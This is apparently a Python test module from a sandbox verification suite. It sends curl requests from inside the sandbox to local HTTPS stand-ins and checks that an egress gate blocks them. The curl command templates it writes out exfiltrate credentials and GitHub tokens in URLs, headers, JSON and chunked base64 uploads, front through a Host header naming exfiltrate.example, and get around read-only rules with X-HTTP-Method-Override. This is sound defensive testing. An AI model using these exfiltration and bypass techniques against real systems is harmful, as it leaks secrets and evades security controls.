"""``verify``'s attacks inside TLS the gate terminates, sent from the bottle with curl to the HTTPS stand-ins:
a secret in a request (DLP), fronting by Host, a write under read-only rules, as itself or named in a method
override header. Each is judged by the gate's answer and by whether the stand-in logged it."""

from __future__ import annotations

import base64
import secrets
import string
from collections.abc import Callable
from dataclasses import dataclass

from claude_bottle.verify.attack import Attack, Outcome, Verdict
from claude_bottle.verify.standins import INSPECTED, READ_ONLY, TLS_PORT, Verification, in_bottle

INSPECTION = "inspected https"
FILLER = 300_000  # bytes of an upload before its secret: many reads and scanner tails in


@dataclass(frozen=True)
class Inspecting:
    """What a request inside TLS is sent against: the bottle, and whether the controls reached their
    stand-ins (if not, a refusal proves nothing)."""

    target: Verification
    controls_arrived: bool = True


@dataclass(frozen=True)
class Sent:
    """What came of a request: the final response status (None if no answer came), its X-Deny-Reason or
    curl's last words, whether the stand-in logged it, and the secret it carried."""

    status: int | None
    reason: str
    arrived: bool
    secret: str

    def shown(self) -> str:
        return f"HTTP {self.status}{f' ({self.reason})' if self.reason else ''}" if self.status else self.reason


@dataclass(frozen=True)
class Inspected(Attack[Inspecting, Sent]):
    """One request the bottle sends with curl to an HTTPS stand-in the gate inspects; it must be refused with
    ``status`` and a reason, and never reach the stand-in. ``path`` is the attack's own, so the stand-in's log
    tells whether it arrived; ``$S`` in ``curl`` is the secret, which reaches the bottle on curl's shell's
    standard input only."""

    host: str
    path: str
    curl: str
    status: int  # the refusal the gate must answer
    secret: Callable[[Verification], str] = lambda target: ""
    upload: bool = False  # curl sends its standard input chunked: FILLER bytes, then the secret on a line

    def run(self, target: Inspecting) -> Sent:
        secret = self.secret(target.target)
        status, reason = _curl(target.target, self, secret)
        return Sent(status, reason, _arrived(target.target, self), secret)

    def judge(self, target: Inspecting, result: Sent) -> Verdict:
        if result.arrived:
            return f"the stand-in got it ({result.shown()})", False
        if result.secret and result.secret in result.reason:
            return "the refusal quotes the secret", False
        if not target.controls_arrived:
            return f"inconclusive: the control did not arrive either ({result.shown()})", False
        return result.shown(), result.status == self.status and bool(result.reason)


@dataclass(frozen=True)
class Control(Inspected):
    """A clean request that must reach the stand-in, so that the refusals of the others prove something."""

    def judge(self, target: Inspecting, result: Sent) -> Verdict:
        if result.arrived:
            return f"answered {result.status}", True
        return f"did not arrive ({result.status or result.reason})", False


def _github_token() -> str:
    return "ghp_" + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(36))


def _base64(value: str) -> str:
    return base64.b64encode(value.encode()).decode()


def _credential(target: Verification) -> str:
    return target.credential.secret


INSPECTED_ATTACKS = (
    Inspected(INSPECTION, "the credential in the URL of a request inside TLS", "refused (DLP)", INSPECTED,
              "/verify/url", '"{url}?q=$S"', 403, _credential),
    Inspected(INSPECTION, "the credential in a request header inside TLS", "refused (DLP)", INSPECTED,
              "/verify/header", '-H "X-Note: $S" {url}', 403, _credential),
    Inspected(INSPECTION, "the credential in a JSON body inside TLS", "refused (DLP)", INSPECTED, "/verify/body",
              "-H 'Content-Type: application/json' -d \"{{\\\"note\\\": \\\"$S\\\"}}\" {url}", 403, _credential),
    Inspected(INSPECTION, "the credential in base64, 300 KB into a chunked upload", "refused (DLP)", INSPECTED,
              "/verify/upload", "-T - -H 'Transfer-Encoding: chunked' {url}", 403,
              lambda target: _base64(target.credential.secret), upload=True),
    Inspected(INSPECTION, "a GitHub token (ghp_...) in a request header inside TLS", "refused (DLP)", INSPECTED,
              "/verify/github", '-H "Authorization: token $S" {url}', 403, lambda target: _github_token()),
    Inspected(INSPECTION, "a Host header naming exfiltrate.example inside the tunnel (domain fronting)",
              "refused (421)", INSPECTED, "/verify/fronted", "-H 'Host: exfiltrate.example' {url}", 421),
    Inspected(INSPECTION, f"PUT to {READ_ONLY}, which read-only rules cover (a publish)", "refused (rule)",
              READ_ONLY, "/verify/publish", "-X PUT --data-binary 'a package' {url}", 403),
    Inspected(INSPECTION, f"a GET to {READ_ONLY} naming PUT in X-HTTP-Method-Override (a server may run it as one)",
              "refused (rule)", READ_ONLY, "/verify/override", "-H 'X-HTTP-Method-Override: PUT' {url}", 403),
)
CONTROLS = tuple(Control(INSPECTION, f"a clean GET inside TLS to {host} (the control)", "reaches the stand-in",
                         host, "/verify/control", "{url}", 404) for host in (INSPECTED, READ_ONLY))


def _curl(target: Verification, request: Inspected, secret: str = "") -> tuple[int | None, str]:
    """Send ``request`` with ``secret`` from the bottle: (the final response status or None, its X-Deny-Reason,
    or curl's last words when no answer came). The attacker does not care whose certificate answers (``-k``):
    the attack is on what passes, not on trust."""
    command = (f"curl -k -sS --suppress-connect-headers --max-time 20 -o /dev/null -D - "
               f"{request.curl.format(url=f'https://{request.host}:{TLS_PORT}{request.path}')}")
    if request.upload:
        command = (f"{{ head -c {FILLER} /dev/zero | tr '\\0' a; printf '\\n%s\\n' \"$S\"; }} | {command}")
    _, output = in_bottle(target.run, f"{{ read -r S; {command}; }} 2>&1", secret)
    heads = [head for head in output.split("\r\n\r\n") if head.startswith("HTTP/")]
    if not heads:
        return None, (output.strip().splitlines()[-1:] or ["no answer"])[0][-80:]
    lines = heads[-1].split("\r\n")
    reason = next((line.split(":", 1)[1].strip() for line in lines if line.lower().startswith("x-deny-reason:")), "")
    return int(lines[0].split()[1]), reason


def _arrived(target: Verification, request: Inspected) -> bool:
    """Whether the stand-in logged a request to ``request``'s path."""
    return any(logged["target"].startswith(request.path) for logged in target.https[request.host].requests())


def inspection_attacks(target: Verification) -> list[Outcome]:
    """Exfiltration inside TLS to allowed hosts, fronting by Host, a write under read-only rules: each must
    be refused by the gate with its reason and never reach the stand-in. The controls must reach it, else
    the refusals prove nothing and each attack counts as a leak."""
    controls = [control.outcome(Inspecting(target)) for control in CONTROLS]
    sent = Inspecting(target, controls_arrived=all(control.blocked for control in controls))
    return [*controls, *(request.outcome(sent) for request in INSPECTED_ATTACKS)]
